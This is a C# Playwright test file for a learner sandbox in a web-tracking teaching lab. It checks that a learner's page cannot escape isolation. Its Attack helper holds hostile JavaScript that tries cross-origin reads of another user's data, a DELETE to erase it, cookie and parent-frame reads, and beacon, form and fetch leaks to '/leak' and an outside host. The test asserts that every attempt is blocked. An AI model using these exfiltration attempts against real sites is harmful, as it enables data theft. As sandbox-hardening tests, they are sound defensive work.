using System.Text.Json;

namespace PixelLab.Browser.Tests.Sandbox;

/// <summary>A page that a learner wrote, in a real browser: what it can do, and what it can't.</summary>
public sealed class SandboxTests(LabServer lab, Browsers browsers) : BrowserTest(lab, browsers)
{
    [Fact]
    public async Task A_pixel_written_by_hand_arrives_and_shows_beside_the_page()
    {
        await OpenAsync();
        await Page.GotoAsync(Lab.Url("lab", Seat, "/your-pixel"));
        await Page.GetByRole(AriaRole.Button, new() { Name = "Run it" }).ClickAsync();
        await Expect(Page.FrameLocator("iframe").GetByRole(AriaRole.Heading, new() { Name = "Hello" })).ToBeVisibleAsync();
        await Expect(Page.GetByRole(AriaRole.Option).First).ToContainTextAsync("metrics");
        await ArrivedAsync("the pixel", IsHit);
        var hit = (await Lab.EventsAsync(Seat)).First(IsHit);
        Assert.Equal("sandbox", hit.GetProperty("site").GetString());
        await AssertAccessibleAsync(Page, "the editor");
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_script_there_reads_nothing_and_sends_nothing_but_to_the_labs_companies(bool asPageOfItsOwn)
    {
        // The browser's own words about each refusal are what is expected here.
        foreach (var words in new[] { "Content Security Policy", "ERR_", "Failed to load", "WebSocket", "403", "Blocked", "Fetch API cannot load", "CORS", "sandbox", "Unsafe" })
        {
            Expected.Add(words);
        }

        var victim = await Lab.MakeSeatAsync();
        using var reply = await Lab.Http.GetAsync(new Uri(Lab.Url("metrics", victim, "/px/PL-SHOP-1.gif?en=page_view")), TestContext.Current.CancellationToken);
        Assert.Single(await Lab.EventsAsync(victim));
        await OpenAsync();
        await WriteAsync(Attack(victim));
        if (asPageOfItsOwn)
        {
            await Page.GotoAsync(Lab.Url("sandbox", Seat, "/"));
        }

        var result = asPageOfItsOwn ? Page.Locator("#result") : Page.FrameLocator("iframe").Locator("#result");
        await Expect(result).ToHaveAttributeAsync("data-done", "yes");
        var told = JsonDocument.Parse(await result.TextContentAsync() ?? "").RootElement;
        foreach (var attempt in told.EnumerateObject())
        {
            Assert.True(attempt.Value.GetString() == "stopped", $"{attempt.Name}: {attempt.Value}");
        }

        Assert.True(told.EnumerateObject().Count() >= 12);
        Assert.Single(await Lab.EventsAsync(victim));
        Assert.DoesNotContain(await Lab.EventsAsync(Seat), one => one.GetProperty("kind").GetString() == "visit");

        // What it may do, it did: its own pixel went out after all the attempts.
        await ArrivedAsync("the allowed pixel", IsHit);
    }

    [Fact]
    public async Task In_the_labs_frame_it_can_not_lead_itself_elsewhere()
    {
        foreach (var words in new[] { "Content Security Policy", "frame", "ERR_", "Blocked" })
        {
            Expected.Add(words);
        }

        await OpenAsync();
        await WriteAsync($"<p>Here</p><script>location.href = '{Lab.Url("shop", Seat, "/?leaked=1")}';</script>", waitFor: null);
        await WriteAsync($"<img src=\"{Lab.Url("metrics", Seat, "/px/PL-MINE-1.gif?en=page_view")}\" alt=\"\"><p>Here</p>");
        await ArrivedAsync("the second page's pixel", IsHit);
        Assert.DoesNotContain(await Lab.EventsAsync(Seat), one => one.GetProperty("kind").GetString() == "visit");
    }

    private static bool IsHit(JsonElement one) => one.GetProperty("kind").GetString() == "hit";

    private async Task WriteAsync(string html, string? waitFor = "iframe")
    {
        await Page.GotoAsync(Lab.Url("lab", Seat, "/your-pixel"));
        await Page.GetByRole(AriaRole.Textbox, new() { Name = "Your page" }).FillAsync(html);
        await Page.GetByRole(AriaRole.Button, new() { Name = "Run it" }).ClickAsync();
        if (waitFor is not null)
        {
            await Expect(Page.Locator(waitFor)).ToBeVisibleAsync();
        }
    }

    private string Attack(string victim) => $$"""
        <!doctype html><title>t</title>
        <iframe name="into" src="{{Lab.Url("lab", victim, "/panel")}}"></iframe>
        <form id="form" method="post" action="{{Lab.Url("shop", Seat, "/leak")}}"><input name="a" value="b"></form>
        <p id="result"></p>
        <script>
        const told = {};
        const late = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve('stopped'), 3000))]);
        const attempt = async (name, act) => {
          try { told[name] = (await late(act())) ?? 'went through'; } catch { told[name] = 'stopped'; }
        };
        const image = (src) => new Promise((resolve, reject) => { const one = new Image(); one.onload = () => resolve('went through'); one.onerror = reject; one.src = src; });
        const socket = (url) => new Promise((resolve, reject) => { const one = new WebSocket(url); one.onopen = () => resolve('opened'); one.onerror = reject; one.onclose = reject; });
        const read = async (url, init) => { const reply = await fetch(url, init); return 'read ' + (await reply.text()).length; };
        const lab = '{{Lab.Url("lab", victim, "")}}';
        const shop = '{{Lab.Url("shop", Seat, "")}}';
        const metrics = 'http://metrics.localhost:{{Lab.Port}}';
        const out = 'http://outside.localhost:{{Lab.Port}}';
        (async () => {
          await attempt('reads the lab', () => read(lab + '/panel'));
          await attempt('reads a seat from the lab', () => read(`http://localhost:{{Lab.Port}}/api/seats/{{victim}}/events`));
          await attempt('reads a seat from its own host', async () => { const reply = await fetch('/api/seats/{{victim}}/events'); return reply.ok ? 'read' : 'stopped'; });
          await attempt('reads a seat from a company', () => read(metrics + '/api/seats/{{victim}}/events'));
          await attempt('erases a seat at a company', () => read(metrics + '/api/seats/{{victim}}', { method: 'DELETE' }));
          await attempt('follows a seat at a company', () => socket('ws://metrics.localhost:{{Lab.Port}}/live'));
          await attempt('follows a seat at the lab', () => socket('ws://localhost:{{Lab.Port}}/live'));
          await attempt('loads an image from a site', () => image(shop + '/icons/lab.svg'));
          await attempt('loads an image from outside', () => image(out + '/x.gif'));
          await attempt('fetches outside', () => fetch(out + '/', { mode: 'no-cors' }).then(() => 'sent'));
          await attempt('sends a beacon to a site', async () => new Promise((resolve) => {
            addEventListener('securitypolicyviolation', () => resolve('stopped'), { once: true });
            navigator.sendBeacon(shop + '/leak', 'x');
          }));
          await attempt('sends a form', async () => new Promise((resolve) => {
            addEventListener('pagehide', () => resolve('sent'));
            document.querySelector('#form').submit();
          }));
          await attempt('opens a window', async () => window.open(shop + '/') ? 'opened' : 'stopped');
          await attempt('reads the page around it', async () => parent === window ? 'stopped' : parent.document.title);
          await attempt('reads a frame of the panel', async () => frames.into.document.body.textContent ? 'read' : 'stopped');
          await attempt('has cookies', async () => document.cookie ? 'cookies: ' + document.cookie : 'stopped');
          await attempt('has a worker', () => navigator.serviceWorker.register('/').then(() => 'registered'));
          await image(metrics + '/~{{Seat}}/px/PL-MINE-1.gif?en=page_view');
          const result = document.querySelector('#result');
          result.textContent = JSON.stringify(told);
          result.dataset.done = 'yes';
        })();
        </script>
        """;
}
